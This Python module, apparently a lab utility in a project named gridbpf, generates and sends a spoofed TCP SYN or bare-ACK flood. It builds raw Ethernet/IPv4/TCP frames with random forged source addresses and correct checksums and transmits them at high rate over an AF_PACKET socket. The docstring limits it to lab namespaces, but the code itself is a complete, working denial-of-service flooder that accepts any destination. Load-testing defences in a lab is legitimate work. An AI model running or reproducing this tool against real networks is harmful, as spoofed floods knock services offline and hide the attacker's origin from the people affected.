"""A spoofed SYN (or ACK) flood for the lab: `python -m gridbpf.lb.flood` inside a lab namespace.

Sends COUNT TCP SYNs to DST:DPORT from random addresses of SRC_NET and random ports, as
Ethernet frames on an AF_PACKET socket (real packets through the lab's router and balancer,
valid IP and TCP checksums so the backends' kernels answer them). The frames are built in one
numpy pass beforehand, so the send loop is a plain send() per frame. Bounded in count and time
(--seconds); only ever run it inside a lab namespace. Prints one JSON line: sent, seconds, pps.
"""
from __future__ import annotations

import argparse
import errno
import ipaddress
import json
import os
import socket
import time

import numpy as np


def _fold(total: np.ndarray) -> np.ndarray:
    """Ones' complement sum of 16-bit words, folded to 16 bits and inverted."""
    while (total >> 16).any():
        total = (total & 0xFFFF) + (total >> 16)
    return (~total) & 0xFFFF


def syn_frames(count: int, src_net: str, dst: str, dport: int, src_mac: str, dst_mac: str,
               seed: int = 1, avoid: tuple[str, ...] = (), ack: bool = False) -> np.ndarray:
    """COUNT Ethernet/IPv4/TCP SYN frames (54 bytes each) as a (COUNT, 54) uint8 array; with
    ACK, bare ACKs instead (packets of connections that do not exist)."""
    rng = np.random.default_rng(seed)
    net = ipaddress.ip_network(src_net)
    hosts = np.arange(int(net.network_address) + 1, int(net.broadcast_address), dtype=np.uint64)
    hosts = hosts[~np.isin(hosts, [int(ipaddress.ip_address(a)) for a in avoid])]
    src = hosts[rng.integers(0, len(hosts), count)].astype(np.uint32)
    sport = rng.integers(1024, 65536, count).astype(np.uint32)
    seq = rng.integers(0, 2**32, count, dtype=np.uint64).astype(np.uint32)
    dst_i = int(ipaddress.ip_address(dst))
    f = np.zeros((count, 54), np.uint8)
    f[:, 0:6] = np.frombuffer(bytes.fromhex(dst_mac.replace(":", "")), np.uint8)
    f[:, 6:12] = np.frombuffer(bytes.fromhex(src_mac.replace(":", "")), np.uint8)
    f[:, 12:14] = (0x08, 0x00)
    ip = f[:, 14:34]
    ip[:, 0], ip[:, 3], ip[:, 8], ip[:, 9] = 0x45, 40, 64, 6        # version/IHL, length 40, TTL, TCP
    ip[:, 6] = 0x40                                                 # DF
    for k in range(4):
        ip[:, 12 + k] = (src >> (24 - 8 * k)) & 0xFF
        ip[:, 16 + k] = (dst_i >> (24 - 8 * k)) & 0xFF
    tcp = f[:, 34:54]
    tcp[:, 0], tcp[:, 1] = sport >> 8, sport & 0xFF
    tcp[:, 2], tcp[:, 3] = dport >> 8, dport & 0xFF
    for k in range(4):
        tcp[:, 4 + k] = (seq >> (24 - 8 * k)) & 0xFF
    tcp[:, 12], tcp[:, 13] = 0x50, 0x10 if ack else 0x02           # 20-byte header, ACK or SYN
    tcp[:, 14], tcp[:, 15] = 0xFF, 0xFF                             # window
    words = lambda a: (a[:, 0::2].astype(np.uint64) << 8) | a[:, 1::2]   # noqa: E731
    ipsum = _fold(words(ip).sum(axis=1))
    ip[:, 10], ip[:, 11] = ipsum >> 8, ipsum & 0xFF
    pseudo = words(ip[:, 12:20]).sum(axis=1) + 6 + 20
    tsum = _fold(words(tcp).sum(axis=1) + pseudo)
    tcp[:, 16], tcp[:, 17] = tsum >> 8, tsum & 0xFF
    return f


def flood(iface: str, frames: np.ndarray, seconds: float) -> dict:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    sent, full, t0, start = 0, 0, time.monotonic(), time.time()
    deadline = t0 + seconds
    try:
        for row in frames:
            frame = row.tobytes()
            while True:
                try:
                    s.send(frame)
                    break
                except OSError as e:      # the device's queue is full: let it drain
                    if e.errno != errno.ENOBUFS or time.monotonic() > deadline:
                        raise
                    full += 1
                    time.sleep(0.0002)
            sent += 1
            if not sent & 1023 and time.monotonic() > deadline:
                break
    finally:
        s.close()
    dt = time.monotonic() - t0
    return {"sent": sent, "seconds": round(dt, 3), "pps": round(sent / dt) if dt else 0,
            "queue_full": full, "start": start, "end": start + dt}


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(prog="python -m gridbpf.lb.flood", description=__doc__.splitlines()[0])
    ap.add_argument("--iface", required=True)
    ap.add_argument("--src-mac", required=True)
    ap.add_argument("--dst-mac", required=True, help="the next hop's MAC (the lab router)")
    ap.add_argument("--src-net", required=True, help="spoofed sources, e.g. 10.1.0.0/24")
    ap.add_argument("--avoid", action="append", default=[], help="a source address never to use")
    ap.add_argument("--dst", required=True)
    ap.add_argument("--dport", type=int, default=80)
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--seconds", type=float, default=30.0, help="stop after this long in any case")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--ack", action="store_true", help="bare ACKs instead of SYNs")
    ap.add_argument("--cpu", type=int, help="pin to this CPU (a flood spreads over RX queues)")
    a = ap.parse_args(argv)
    if a.cpu is not None:
        os.sched_setaffinity(0, {a.cpu})
    frames = syn_frames(a.count, a.src_net, a.dst, a.dport, a.src_mac, a.dst_mac, a.seed, tuple(a.avoid), a.ack)
    print("ready", flush=True)
    print(json.dumps(flood(a.iface, frames, a.seconds)), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
